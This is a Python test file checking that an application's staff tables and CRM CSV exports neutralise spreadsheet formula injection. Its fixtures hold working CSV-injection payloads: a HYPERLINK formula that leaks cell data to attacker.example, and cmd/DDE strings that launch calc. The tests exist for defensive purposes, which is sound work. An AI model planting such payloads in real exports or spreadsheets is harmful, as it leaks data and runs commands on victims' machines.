"""CSV formula injection (#14 item 13): text a buyer typed or a document holds that a spreadsheet would
evaluate (`=HYPERLINK(...)`, `+1`, `-2`, `@SUM(...)`, a leading tab) is neutralised in every CSV a staff
member can export: the staff tables (their toolbar downloads exactly the cells shown) and the CRM files."""

from __future__ import annotations

import csv

import pytest

from assistant.csv_cells import FORMULA_START, csv_safe
from tests.app_support import add_staff, open_gap, page, services, small_home, stores, use_home

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the price list")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_DOC = b"# =1+2 Pricing\n\n=cmd|' /C calc'!A0 lists every supported region of DataPlane.\n"


def evaluable(cell: object) -> bool:
    return isinstance(cell, str) and cell[:1] in FORMULA_START


@pytest.fixture
def staff_home(tmp_path, embedder, monkeypatch):
    url = use_home(monkeypatch, small_home(tmp_path / "home", embedder), tmp_path / "lastmile.sqlite3")
    add_staff(url, "rita", "ada")
    conversations, handoffs = stores(url)
    open_gap(handoffs, conversations.start(), FORMULA, sources=["faq.csv"])
    open_gap(handoffs, conversations.start(), AT_FORMULA, sources=["faq.csv"])
    upload = services().admin.upload("formula.md", FORMULA_DOC, owner="ada")
    assert upload.result == "added", upload.detail
    return url


def cells(frame) -> list[object]:
    return [cell for column in frame.columns for cell in frame[column]]


def test_rep_console_queue_table_is_formula_safe(staff_home):
    app = page("rep_console", "rita")
    app.run()
    assert not app.exception, app.exception
    queue = next(df.value for df in app.dataframe if "question" in df.value.columns)
    assert set(queue["question"]) == {csv_safe(FORMULA), csv_safe(AT_FORMULA)}
    assert not any(evaluable(cell) for cell in cells(queue))


def test_knowledge_gaps_table_is_formula_safe(staff_home):
    app = page("knowledge_base", "ada")
    app.run()
    assert not app.exception, app.exception
    gaps = next(df.value for df in app.dataframe if "also asked as" in df.value.columns)
    assert set(gaps["question"]) == {"'" + FORMULA, "'" + AT_FORMULA}
    assert not any(evaluable(cell) for cell in cells(gaps))


def test_document_list_and_search_preview_are_formula_safe(staff_home):
    app = page("knowledge_base", "ada")
    app.run()
    documents = next(df.value for df in app.dataframe if "chunks" in df.value.columns)
    assert "'=1+2 Pricing" in set(documents["title"])
    app.text_input[0].set_value("=cmd calc supported region").run()
    assert not app.exception, app.exception
    hits = next(df.value for df in app.dataframe if "similarity" in df.value.columns)
    formula_hits = hits[hits["source"] == "formula.md"]
    assert len(formula_hits) > 0
    assert all(str(text).startswith("'=") for text in formula_hits["text"])
    assert not any(evaluable(cell) for cell in cells(hits) + cells(documents))


def test_crm_csv_files_use_the_same_guard(tmp_path):
    from assistant.deals.crm_export import COLUMNS, CrmExport
    from assistant.deals.crm_files import read_csv, write_csv

    note = dict.fromkeys(COLUMNS["notes"], "") | {"hs_note_body": FORMULA, "associated_deal_name": "+1 deal"}
    export = CrmExport(notes=[note])
    for path in write_csv(export, tmp_path):
        with path.open(newline="", encoding="utf-8") as handle:
            assert not any(evaluable(cell) for row in csv.reader(handle) for cell in row)
    assert read_csv(tmp_path).notes == [note]
